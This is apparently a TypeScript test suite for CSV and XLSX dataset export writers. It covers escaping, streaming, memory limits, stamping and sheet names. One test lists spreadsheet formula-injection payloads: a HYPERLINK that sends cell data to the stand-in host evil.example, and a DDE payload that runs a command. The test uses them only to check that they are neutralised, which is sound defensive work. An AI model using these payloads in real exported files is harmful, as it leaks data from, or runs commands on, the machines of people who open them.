import { execFile, execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import type { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import fc from 'fast-check';
import type { DeliverySheet } from '../../../server/datasets/delivery-sheet.js';
import { escapeCsvCell, unescapeCsvCell, writeCsvDelivery } from '../../../server/datasets/write-csv.js';
import { stampHeaderFooter, toExcelSheetName, toXlsxCellValue, writeXlsxDelivery } from '../../../server/datasets/write-xlsx.js';
import { withCellReferences } from '../../support/xlsx-cell-references.js';

/**
 * The delivery writers: a dataset leaves the server as CSV or XLSX holding every value as stored,
 * safe to open in a spreadsheet, stamped (XLSX), and written as it is read, so neither a large
 * dataset nor a slow download holds it in memory.
 */

const STAMP = {
  lines: ['Project Falcon — confidential', 'Ewa Łukasz (Alpha Capital) ewa@alpha.example', '2026-12-05 16:00 UTC · download ab12cd34'],
};

async function* listed<T>(items: T[]): AsyncGenerator<T> {
  yield* items;
}

const sheet = (name: string, header: string[], rows: string[][]): DeliverySheet => ({ name, header, rows: listed(rows) });

async function readAll(stream: Readable): Promise<Buffer> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks);
}

async function loadWorkbook(data: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  // exceljs types its input as an ArrayBuffer (JSZip reads either): a copy of exactly the file's bytes.
  await workbook.xlsx.load(new Uint8Array(await withCellReferences(data)).buffer);
  return workbook;
}

/** The values of a sheet's rows as exceljs reads them, from column 1. */
function sheetValues(worksheet: ExcelJS.Worksheet): ExcelJS.CellValue[][] {
  const rows: ExcelJS.CellValue[][] = [];
  worksheet.eachRow((row) => rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows;
}

/**
 * Rows that count how many have been pulled and note when their iterator is returned (the producer
 * told to let go), for the tests of backpressure and abandoned downloads.
 */
function countedRows(total: number, width: number) {
  const state = { pulled: 0, returned: false };
  async function* rows(): AsyncGenerator<string[]> {
    try {
      for (let index = 0; index < total; index++) {
        state.pulled++;
        yield Array.from({ length: width }, (_, column) => (column % 3 === 0 ? String(index * width + column) : `cell ${column} of row ${index}`));
      }
    } finally {
      state.returned = true;
    }
  }
  return { state, rows: rows() };
}

const MB = 2 ** 20;

const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));

/** Waits until `count()` has not changed for `quietMs`, and returns it. */
async function settled(count: () => number, quietMs = 300): Promise<number> {
  let last = -1;
  while (count() !== last) {
    last = count();
    await wait(quietMs);
  }
  return last;
}

const PROJECT_ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../../..');

/**
 * The program that measures one delivery of `rows` rows × 12 columns, read as fast as it comes, in a
 * node process of its own (as the benches run theirs): RSS is the whole process's, so a run sharing
 * jest's process would measure jest and the tests before it as much as the writer. Garbage is
 * collected on demand without starting node with --expose-gc (as bench/mail-m1.bench.ts does): the
 * RSS peak is measured as V8 runs on its own, collecting lazily, and the heap still held once
 * collected afterwards tells garbage from a leak. Plain JavaScript, run by `node --import tsx`.
 */
const MEASURING_PROGRAM = `
import v8 from 'node:v8';
import vm from 'node:vm';
import { writeCsvDelivery } from ${JSON.stringify(path.join(PROJECT_ROOT, 'server/datasets/write-csv.ts'))};
import { writeXlsxDelivery } from ${JSON.stringify(path.join(PROJECT_ROOT, 'server/datasets/write-xlsx.ts'))};

v8.setFlagsFromString('--expose-gc');
const collectGarbage = vm.runInNewContext('gc');
const [format, rows] = [process.argv[1], Number(process.argv[2])];
const header = Array.from({ length: 12 }, (_, column) => 'column ' + column);

async function* rowsOf() {
  for (let index = 0; index < rows; index++) {
    yield Array.from({ length: 12 }, (_, column) => (column % 3 === 0 ? String(index * 12 + column) : 'cell ' + column + ' of row ' + index));
  }
}
async function deliver() {
  const sheets = (async function* () { yield { name: 'Data', header, rows: rowsOf() }; })();
  const stamp = { lines: ['Project Falcon — confidential', 'Ewa Łukasz (Alpha Capital) ewa@alpha.example', '2026-12-05 16:00 UTC · download ab12cd34'] };
  let bytes = 0;
  for await (const chunk of format === 'csv' ? writeCsvDelivery(sheets) : writeXlsxDelivery(sheets, stamp)) bytes += chunk.length;
  return bytes;
}

collectGarbage();
const before = process.memoryUsage();
let peak = before.rss;
const sampler = setInterval(() => { peak = Math.max(peak, process.memoryUsage.rss()); }, 10);
const started = Date.now();
const bytes = await deliver();
const seconds = (Date.now() - started) / 1000;
clearInterval(sampler);
peak = Math.max(peak, process.memoryUsage.rss());
collectGarbage();
const MB = 2 ** 20;
console.log(JSON.stringify({ bytes, seconds, rssGrowth: (peak - before.rss) / MB, heapHeld: (process.memoryUsage().heapUsed - before.heapUsed) / MB }));
`;

interface DeliveryMeasurement {
  bytes: number;
  seconds: number;
  /** MB: the peak RSS over the RSS before, garbage not yet collected included. */
  rssGrowth: number;
  /** MB: the heap still in use after the delivery, once collected, over the heap before. */
  heapHeld: number;
}

async function measureDelivery(format: 'csv' | 'xlsx', rows: number): Promise<DeliveryMeasurement> {
  const { stdout } = await promisify(execFile)(process.execPath, ['--import', 'tsx', '--input-type=module', '-e', MEASURING_PROGRAM, format, String(rows)], {
    cwd: PROJECT_ROOT,
    timeout: 110_000,
  });
  return JSON.parse(stdout) as DeliveryMeasurement;
}

describe('CSV delivery', () => {
  const header = ['id', 'name', 'note'];
  const rows = [
    ['1', 'Zoë "the boss" Müller', 'a, b, and c'],
    ['2', 'line one\r\nline two', 'cr\ronly and lf\nonly'],
    ['3', 'é€Ł张', ''],
    ['4', ' leading and trailing spaces ', '"'],
  ];

  it('round-trips quotes, commas, line breaks and é€Ł张: csv-parse reads back exactly what was written', async () => {
    const data = await readAll(writeCsvDelivery(listed([sheet('Data', header, rows)])));
    expect(parseCsv(data, { bom: true })).toEqual([header, ...rows]);
  });

  it('is UTF-8 with a byte order mark, comma-separated, with CRLF line ends', async () => {
    const data = await readAll(writeCsvDelivery(listed([sheet('Data', ['a', 'b'], [['1', 'é']])])));
    expect([...data.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(data.subarray(3).toString('utf8')).toBe('a,b\r\n1,é\r\n');
  });

  it('writes the first sheet only, and lets go of the sheets not written', async () => {
    let returned = false;
    async function* sheets(): AsyncGenerator<DeliverySheet> {
      try {
        yield sheet('First', ['a'], [['1']]);
        yield sheet('Second', ['b'], [['2']]);
      } finally {
        returned = true;
      }
    }
    const data = await readAll(writeCsvDelivery(sheets()));
    expect(parseCsv(data, { bom: true })).toEqual([['a'], ['1']]);
    expect(returned).toBe(true);
  });

  it('pads a short row to the header, so every record has the same number of fields', async () => {
    const data = await readAll(writeCsvDelivery(listed([sheet('Data', ['a', 'b', 'c'], [['1']])])));
    expect(parseCsv(data, { bom: true })).toEqual([['a', 'b', 'c'], ['1', '', '']]);
  });

  it('prefixes with an apostrophe every cell a spreadsheet would run as a formula, the header too', async () => {
    const injections = ['=HYPERLINK("http://evil.example/?leak="&A2,"Click")', '+1+1', '@SUM(A1)', '-2+3', '\t=1+1', '\r=1+1', '+44', '-', '=', "=cmd|' /C calc'!A0"];
    for (const cell of injections) expect(escapeCsvCell(cell)).toBe(`'${cell}`);
    const data = await readAll(writeCsvDelivery(listed([sheet('Data', ['=header'], injections.map((cell) => [cell]))])));
    const cells = (parseCsv(data, { bom: true }) as string[][]).map(([cell]) => cell);
    expect(cells).toEqual(["'=header", ...injections.map((cell) => `'${cell}`)]);
    // What a trace of the leaked file reads back: the stored values.
    expect(cells.map(unescapeCsvCell)).toEqual(['=header', ...injections]);
  });

  it('leaves plain numbers and every other value exactly as stored', () => {
    for (const cell of ['-12', '3.5', '-3.5', '0', '1e5', '-2.5E-3', '007', 'plain text', '', ' =not first', 'a=b', "'tis", "'-12"]) {
      expect(escapeCsvCell(cell)).toBe(cell);
    }
  });

  it("keeps a stored value beginning with an apostrophe distinguishable from an escaped one: '=1 is delivered ''=1", () => {
    expect(escapeCsvCell("'=1")).toBe("''=1");
    expect(unescapeCsvCell("''=1")).toBe("'=1");
    expect(unescapeCsvCell("'=1")).toBe('=1');
    expect(unescapeCsvCell("'tis")).toBe("'tis");
  });

  it('recovers every stored value from its escaped form, and no escaped cell can start a formula', () => {
    const formulaAlphabet = fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', '1', '.', 'e', 'E', 'a', ' ', '"', ',');
    const anyText = fc.oneof(
      fc.string({ unit: formulaAlphabet, maxLength: 8 }),
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.string({ unit: fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code)), maxLength: 20 }),
    );
    fc.assert(
      fc.property(anyText, (value) => {
        const escaped = escapeCsvCell(value);
        expect(unescapeCsvCell(escaped)).toBe(value);
        if (/^[=+\-@\t\r]/.test(escaped)) expect(escaped).toMatch(/^-?\d+(\.\d+)?([eE][-+]?\d+)?$/);
      }),
      { numRuns: 5000 },
    );
  });

  it('pulls rows only as the download is read: a reader that stops leaves all but a bounded number unread', async () => {
    const source = countedRows(100_000, 12);
    const AHEAD = 4_000;
    const csv = writeCsvDelivery(listed([{ name: 'Data', header: ['a'], rows: source.rows }]));
    let delivered = 0;
    // A slow reader: whenever it has read a chunk, the writer is at most a few batches ahead of it
    // (it stringifies 1,024 records at a time: write-csv.ts): a few thousand of the 100,000 rows.
    for (let reads = 0; reads < 20; reads++) {
      const chunk = (csv.read() as Buffer | null) ?? (await new Promise<Buffer>((resolve) => csv.once('readable', () => resolve(csv.read() as Buffer))));
      delivered += chunk.toString('utf8').split('\r\n').length - 1;
      expect(source.state.pulled - delivered).toBeLessThan(AHEAD);
      await wait(5);
    }
    // Not read any more: the writer stops, far from the end of the rows.
    const pulled = await settled(() => source.state.pulled);
    expect(pulled - delivered).toBeLessThan(AHEAD);
    csv.destroy();
    await wait(50);
    expect(source.state.returned).toBe(true);
  });

  it('fails the download with the error of the rows', async () => {
    async function* failing(): AsyncGenerator<string[]> {
      yield ['1'];
      throw new Error('the stored file is damaged');
    }
    await expect(readAll(writeCsvDelivery(listed([{ name: 'Data', header: ['a'], rows: failing() }])))).rejects.toThrow('the stored file is damaged');
  });

  it('fails the download when it is given no sheet', async () => {
    await expect(readAll(writeCsvDelivery(listed([])))).rejects.toThrow(/needs one sheet/);
  });

  // About 7–12 s on this 2-core machine (193 MB of CSV); measured here: RSS growth 25–31 MB.
  it('streams 1,000,000 rows in less than 100 MB of memory growth, holding nothing afterwards', async () => {
    const memory = await measureDelivery('csv', 1_000_000);
    console.log(`CSV, 1,000,000 rows × 12 columns: ${(memory.bytes / MB).toFixed(0)} MB in ${memory.seconds.toFixed(1)} s, RSS growth ${memory.rssGrowth.toFixed(1)} MB, heap held afterwards ${memory.heapHeld.toFixed(1)} MB`);
    expect(memory.rssGrowth).toBeLessThan(100);
    expect(memory.heapHeld).toBeLessThan(5);
  }, 120_000);
});

describe('XLSX delivery', () => {
  const people = sheet(
    'People',
    ['id', 'name', 'note', 'amount'],
    [
      ['007', 'Zoë Müller', '=1+1', '3.5'],
      ['-12', 'é€Ł张', '2026-12-05', '1.50'],
      ['12345678901234567', 'a & b', '', '-0.25'],
    ],
  );
  const deals = sheet('Deals', ['deal'], [['Falcon'], ['Osprey']]);

  let workbook: ExcelJS.Workbook;
  let data: Buffer;
  beforeAll(async () => {
    data = await readAll(writeXlsxDelivery(listed([people, deals]), STAMP));
    workbook = await loadWorkbook(data);
  });

  it('opens on a first sheet named Gatehouse that shows the stamp lines in bold in a wide column', () => {
    const stampSheet = workbook.worksheets[0];
    expect(stampSheet.name).toBe('Gatehouse');
    expect(sheetValues(stampSheet)).toEqual(STAMP.lines.map((line) => [line]));
    stampSheet.eachRow((row) => expect(row.getCell(1).font?.bold).toBe(true));
    expect(stampSheet.getColumn(1).width).toBeGreaterThanOrEqual(80);
  });

  it('stamps the header and footer of every sheet, odd and even pages, with the recipient and the download id', () => {
    expect(workbook.worksheets.map((worksheet) => worksheet.name)).toEqual(['Gatehouse', 'People', 'Deals']);
    for (const worksheet of workbook.worksheets) {
      const { oddHeader, oddFooter, evenHeader, evenFooter } = worksheet.headerFooter;
      for (const text of [oddHeader, oddFooter, evenHeader, evenFooter]) {
        expect(text).toMatch(/^&C/);
        expect(text).toContain('download ab12cd34');
        expect(text).toContain('Ewa Łukasz (Alpha Capital) ewa@alpha.example');
      }
    }
  });

  it('writes each data sheet with its rows under a bold, frozen header row', () => {
    const [, peopleSheet, dealsSheet] = workbook.worksheets;
    expect(sheetValues(dealsSheet)).toEqual([['deal'], ['Falcon'], ['Osprey']]);
    expect(sheetValues(peopleSheet)[0]).toEqual(['id', 'name', 'note', 'amount']);
    expect(peopleSheet.rowCount).toBe(4);
    peopleSheet.getRow(1).eachCell((cell) => expect(cell.font?.bold).toBe(true));
    expect(peopleSheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
  });

  it('writes canonical numbers as numbers and every other value as the text stored: 007, dates, 1.50, long digit runs', () => {
    const peopleSheet = workbook.worksheets[1];
    expect(sheetValues(peopleSheet).slice(1)).toEqual([
      ['007', 'Zoë Müller', '=1+1', 3.5],
      [-12, 'é€Ł张', '2026-12-05', '1.50'],
      ['12345678901234567', 'a & b', undefined, -0.25],
    ]);
    expect(peopleSheet.getCell('A2').type).toBe(ExcelJS.ValueType.String);
    expect(peopleSheet.getCell('D2').type).toBe(ExcelJS.ValueType.Number);
  });

  it('never writes a formula: a text beginning with = is a string cell', () => {
    const cell = workbook.worksheets[1].getCell('C2');
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.value).toBe('=1+1');
    expect(cell.formula).toBeUndefined();
  });

  it('chooses the cell type from the text alone', () => {
    expect(toXlsxCellValue('42')).toBe(42);
    expect(toXlsxCellValue('-0.001')).toBe(-0.001);
    expect(toXlsxCellValue('1e+21')).toBe(1e21);
    expect(toXlsxCellValue('123456789012345')).toBe(123456789012345);
    for (const text of ['007', '1.50', '1e3', '-0', '+5', ' 5', '0x10', 'Infinity', 'NaN', '1234567890123456', '0.30000000000000004', '2026-12-05', 'TRUE', '=1+1']) {
      expect(toXlsxCellValue(text)).toBe(text);
    }
    expect(toXlsxCellValue('')).toBeNull();
  });

  const soffice = '/usr/bin/soffice';
  (fs.existsSync(soffice) ? it : it.skip)('opens in LibreOffice, on the Gatehouse sheet, without evaluating a text beginning with =', () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gatehouse-xlsx-'));
    try {
      const file = path.join(dir, 'delivery.xlsx');
      fs.writeFileSync(file, data);
      const profile = `file://${path.join(dir, 'profile')}`;
      execFileSync(soffice, ['--headless', `-env:UserInstallation=${profile}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76', '--outdir', dir, file], { stdio: 'pipe', timeout: 60_000 });
      expect(parseCsv(fs.readFileSync(path.join(dir, 'delivery.csv')), { bom: true })).toEqual(STAMP.lines.map((line) => [line]));
      // Token 12 = -1 writes every sheet to a file of its own (LibreOffice 7.2 and later).
      execFileSync(soffice, ['--headless', `-env:UserInstallation=${profile}`, '--convert-to', 'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1', '--outdir', dir, file], { stdio: 'pipe', timeout: 60_000 });
      const people = parseCsv(fs.readFileSync(path.join(dir, 'delivery-People.csv')), { bom: true }) as string[][];
      expect(people[1]).toEqual(['007', 'Zoë Müller', '=1+1', '3.5']);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 120_000);

  it('fails the download with the error of the rows', async () => {
    async function* failing(): AsyncGenerator<string[]> {
      yield ['1'];
      throw new Error('the stored file is damaged');
    }
    await expect(readAll(writeXlsxDelivery(listed([{ name: 'Data', header: ['a'], rows: failing() }]), STAMP))).rejects.toThrow('the stored file is damaged');
  });

  it('stops pulling rows for a reader that stops reading, and lets go of them when the download is abandoned', async () => {
    const source = countedRows(200_000, 12);
    const xlsx = writeXlsxDelivery(listed([{ name: 'Data', header: ['a'], rows: source.rows }]), STAMP);
    await new Promise((resolve) => xlsx.once('readable', resolve));
    const pulled = await settled(() => source.state.pulled);
    expect(pulled).toBeLessThan(20_000);
    xlsx.destroy();
    await wait(50);
    expect(source.state.returned).toBe(true);
  });

  it('stops pulling rows while the compressor is behind, however fast the reader, and finishes once it catches up', async () => {
    // Every thread of libuv's pool, which runs zlib, is held in an open() of a FIFO no one writes to:
    // the compressor makes no progress, while the reader takes at once whatever comes out.
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'gatehouse-stall-'));
    const fifo = path.join(dir, 'fifo');
    execFileSync('mkfifo', [fifo]);
    const threads = Number(process.env.UV_THREADPOOL_SIZE) || 4;
    const blockers = Array.from({ length: threads }, () => fs.promises.open(fifo, 'r'));
    try {
      const source = countedRows(50_000, 12);
      const xlsx = writeXlsxDelivery(listed([{ name: 'Data', header: ['a'], rows: source.rows }]), STAMP);
      const written = readAll(xlsx);
      const pulled = await settled(() => source.state.pulled);
      // About 1 MB of XML waits for the compressor (a few thousand rows), not the 50,000 rows.
      expect(pulled).toBeLessThan(10_000);
      fs.closeSync(fs.openSync(fifo, 'w'));
      for (const handle of await Promise.all(blockers)) await handle.close();
      const data = await written;
      expect(source.state.pulled).toBe(50_000);
      expect(data.subarray(0, 2).toString('latin1')).toBe('PK');
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  }, 60_000);

  // About 9–18 s on this 2-core machine (15 MB of XLSX); measured here: RSS growth 36–56 MB.
  it('streams 200,000 rows × 12 columns in less than 150 MB of memory growth, holding nothing afterwards', async () => {
    const memory = await measureDelivery('xlsx', 200_000);
    console.log(`XLSX, 200,000 rows × 12 columns: ${(memory.bytes / MB).toFixed(0)} MB in ${memory.seconds.toFixed(1)} s, RSS growth ${memory.rssGrowth.toFixed(1)} MB, heap held afterwards ${memory.heapHeld.toFixed(1)} MB`);
    expect(memory.rssGrowth).toBeLessThan(150);
    expect(memory.heapHeld).toBeLessThan(5);
  }, 120_000);
});

describe('XLSX sheet names', () => {
  const named = (...names: string[]) => {
    const taken = new Set(['gatehouse']);
    return names.map((name) => toExcelSheetName(name, taken));
  };

  it('replaces the characters Excel refuses and trims apostrophes at either end', () => {
    expect(named('a/b:c*d?e[f]g\\h', "'quoted'", '  ', 'tab\there')).toEqual(['a_b_c_d_e_f_g_h', 'quoted', 'Sheet', 'tab_here']);
  });

  it('cuts a name to 31 characters without splitting a character', () => {
    expect(named('x'.repeat(40))).toEqual(['x'.repeat(31)]);
    expect(named(`${'x'.repeat(30)}😀`)).toEqual(['x'.repeat(30)]);
  });

  it('renames a data sheet called Gatehouse or History, in any case', () => {
    expect(named('Gatehouse', 'GATEHOUSE', 'history')).toEqual(['Gatehouse (2)', 'GATEHOUSE (3)', 'history (2)']);
  });

  it('makes names unique as Excel compares them, the counter fitted within 31 characters', () => {
    const long = 'y'.repeat(31);
    expect(named('Data', 'data', 'DATA', long, long)).toEqual(['Data', 'data (2)', 'DATA (3)', long, `${'y'.repeat(27)} (2)`]);
  });

  it('gives the workbook the sanitised names', async () => {
    const data = await readAll(writeXlsxDelivery(listed([sheet('Gatehouse', ['a'], [['1']]), sheet('Q1/Q2', ['a'], []), sheet('q1_q2', ['a'], [])]), STAMP));
    expect((await loadWorkbook(data)).worksheets.map((worksheet) => worksheet.name)).toEqual(['Gatehouse', 'Gatehouse (2)', 'Q1_Q2', 'q1_q2 (2)']);
  });
});

describe('XLSX header and footer stamp', () => {
  it('escapes & as && so no stamp text is read as a formatting code', () => {
    expect(stampHeaderFooter({ lines: ['M&A room', 'Smith &Jones'] })).toBe('&CM&&A room · Smith &&Jones');
  });

  it('keeps within Excel’s 255 characters, shortening the longest lines and keeping the download id whole', () => {
    const stamp = { lines: [`Project ${'Very Long Name & Co '.repeat(20)}`, `Ewa Łukasz (${'Alpha Capital Partners '.repeat(10)}) ewa@alpha.example`, '2026-12-05 16:00 UTC · download ab12cd34'] };
    const text = stampHeaderFooter(stamp);
    expect(text.length).toBeLessThanOrEqual(255);
    expect(text.endsWith(' · 2026-12-05 16:00 UTC · download ab12cd34')).toBe(true);
    expect(text).toContain('Ewa Łukasz (Alpha');
    // Every & after the leading &C is one of an && pair: a cut never leaves half of one.
    expect(text.slice(2).replace(/&&/g, '')).not.toContain('&');
  });
});
